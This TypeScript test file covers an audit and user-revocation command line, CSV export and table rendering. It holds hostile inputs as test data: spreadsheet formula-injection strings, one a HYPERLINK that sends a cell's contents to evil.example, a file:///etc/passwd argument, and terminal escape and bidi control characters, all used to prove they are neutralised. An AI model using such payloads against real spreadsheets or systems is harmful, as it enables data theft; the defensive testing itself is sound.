/** `npm run audit` and `npm run users`: arguments, tables, and CSV that is safe to open. */
import { describe, expect, test } from "vitest";
import { readAuditArguments, readUsersArguments } from "../../scripts/operator/arguments.ts";
import { CSV_HEADER, toCsvLine } from "../../scripts/operator/audit-csv.ts";
import { renderAudit, renderGrants } from "../../scripts/operator/render.ts";
import type { KeptEntry } from "../../src/activity-log/entry.ts";

const NOW = Date.parse("2026-11-20T08:00:00.000Z");

const CALL: KeptEntry = {
  event: "tool_call",
  time: "2026-11-20T07:00:00.000Z",
  callId: "0f8fad5b-d9cb-469f-a165-70867728950e",
  userId: "ada",
  clientId: "client-1",
  clientName: "Claude",
  tool: "get_execution",
  ids: { instance: "prod", executionId: "34" },
  outcome: "success",
  durationMs: 12,
  bytesRead: 4_000,
  redactions: { password: 2, "api-key": 1 },
};

describe("the arguments of npm run audit", () => {
  test("say since when and of whom, in times that the server takes", () => {
    expect(readAuditArguments(["--since", "24h", "--user", "ada", "--csv"], NOW)).toMatchObject({
      kind: "run",
      options: { query: { since: "2026-11-19T08:00:00.000Z", userId: "ada" }, form: "csv" },
    });
    expect(readAuditArguments(["--instance", "staging"], NOW)).toMatchObject({
      options: { query: { instance: "staging" } },
    });
    expect(readAuditArguments(["--until", "2026-11-20"], NOW)).toMatchObject({
      options: { query: { until: "2026-11-20T00:00:00.000Z" }, form: "table" },
    });
  });

  test.each([
    [["--since", "yesterday"]],
    [["--since", "10"]],
    [["--csv", "--json"]],
    [["--url", "file:///etc/passwd"]],
    [["something"]],
    [["--nonsense"]],
  ])("%j are wrong", (args) => {
    expect(readAuditArguments(args, NOW).kind).toBe("wrong");
  });
});

describe("the arguments of npm run users", () => {
  test("list, or revoke one id", () => {
    expect(readUsersArguments([])).toMatchObject({ options: { revoke: undefined } });
    expect(readUsersArguments(["revoke", "ada"])).toMatchObject({ options: { revoke: "ada" } });
  });

  test.each([[["revoke"]], [["revoke", "ada", "bob"]], [["remove", "ada"]], [["ada"]]])(
    "%j are wrong: nothing is revoked by mistake",
    (args) => {
      expect(readUsersArguments(args).kind).toBe("wrong");
    },
  );
});

describe("CSV", () => {
  const cellsOf = (entry: KeptEntry): Record<string, string> => {
    const cells = toCsvLine(entry).split(",");
    return Object.fromEntries(CSV_HEADER.split(",").map((column, index) => [column, cells[index] ?? ""]));
  };

  test("has a column for each member", () => {
    expect(cellsOf(CALL)).toMatchObject({
      userId: "ada",
      tool: "get_execution",
      executionId: "34",
      instance: "prod",
      durationMs: "12",
      redactions: "password 2; api-key 1",
    });
    for (const entry of [CALL, { event: "sign_in_flood", time: CALL.time, notKept: 3 } as const]) {
      const known = new Set([...CSV_HEADER.split(","), "ids", "callId"]);
      expect(Object.keys(entry).filter((member) => !known.has(member))).toEqual([]);
    }
  });

  test.each([
    '=HYPERLINK("https://evil.example?x="&A1;"click")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1",
    "|calc",
    "%0A=1",
  ])("a client that is called %j is no formula", (clientName) => {
    const line = toCsvLine({ ...CALL, clientName });
    const cell = /,client-1,(.*),get_execution,/.exec(line)?.[1] ?? "";
    expect(cell.slice(0, 2)).toBe(`"'`);
  });

  test("quotes, commas and line breaks stay in their cell", () => {
    const line = toCsvLine({ ...CALL, clientName: 'a "b", c\r\n=1+1' });
    expect(line).toContain(',"a ""b"", c\r\n=1+1",');
  });
});

describe("tables", () => {
  test("show calls, sign-ins and floods", () => {
    const text = renderAudit([
      CALL,
      {
        event: "sign_in",
        time: CALL.time,
        outcome: "refresh_refused",
        via: "oidc",
        userId: "bob",
        reason: "not_listed",
      },
      { event: "sign_in_flood", time: CALL.time, notKept: 3 },
    ]);
    expect(text.split("\n")).toHaveLength(4);
    expect(text).toMatch(
      /ada +Claude +get_execution +success +instance prod executionId 34 +12 +4000 +password 2; api-key 1/,
    );
    expect(text).toMatch(/bob +– +sign-in \(oidc\) +refresh_refused \(not_listed\)/);
    expect(text).toContain("3 more that day, not kept");
  });

  test("obey no name of a client", () => {
    const clientName = "\u001b[2J\u202eClaude\nadmin";
    const text = renderAudit([{ ...CALL, clientName }]);
    expect(text.split("\n")).toHaveLength(2);
    expect(text).not.toMatch(/\p{Cf}|\p{Cc}(?<!\n)/u);
    const grant = {
      userId: "\u001b[2Jada",
      grantId: "grant-1",
      clientId: "client-1",
      clientName,
      via: "oidc",
      scopes: ["n8n:read"],
      createdAt: CALL.time,
      expiresAt: null,
      lastUsedAt: null,
    };
    expect(renderGrants([grant])).not.toMatch(/\p{Cf}|\p{Cc}(?<!\n)/u);
    expect(renderGrants([])).toMatch(/Nobody is signed in/);
  });
});
